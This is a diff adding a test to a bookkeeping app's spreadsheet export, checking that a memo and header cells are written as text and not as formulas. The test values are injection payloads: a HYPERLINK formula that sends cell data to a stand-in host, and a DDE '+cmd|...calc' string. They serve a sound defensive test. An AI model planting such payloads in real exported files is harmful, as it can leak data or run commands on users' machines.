@@ -90,3 +90,30 @@ def test_pdf_renders(books):
         "<td>Rp100.000.000</td></tr></table></body></html>"
     )
     assert exports.pdf_bytes(html).startswith(b"%PDF")
+
+
+INJECTION = '=HYPERLINK("http://x"&A1,"Klik")'
+
+
+def test_text_cells_are_never_formulas(books):
+    services.post_event(
+        cooperative=books,
+        event="expense.cash",
+        key="5-201",
+        amounts={"amount": 1_000},
+        date=date(2026, 3, 7),
+        memo=INJECTION,
+    )
+    chart = statements.chart_of(books)
+    table = exports.general_ledger_table(
+        statements.general_ledger(
+            cooperative=books, account=chart.by_code("1-101-01"), period=MARCH, per_page=None
+        )
+    )
+    data = exports.xlsx_bytes(table, heading=["+cmd|' /C calc'!A0", "@SUM(1)", table.title])
+    sheet = openpyxl.load_workbook(BytesIO(data)).active
+    memo = next(c for row in sheet.iter_rows() for c in row if c.value == INJECTION)
+    assert memo.data_type == "s"
+    assert (sheet["A1"].value, sheet["A1"].data_type) == ("+cmd|' /C calc'!A0", "s")
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
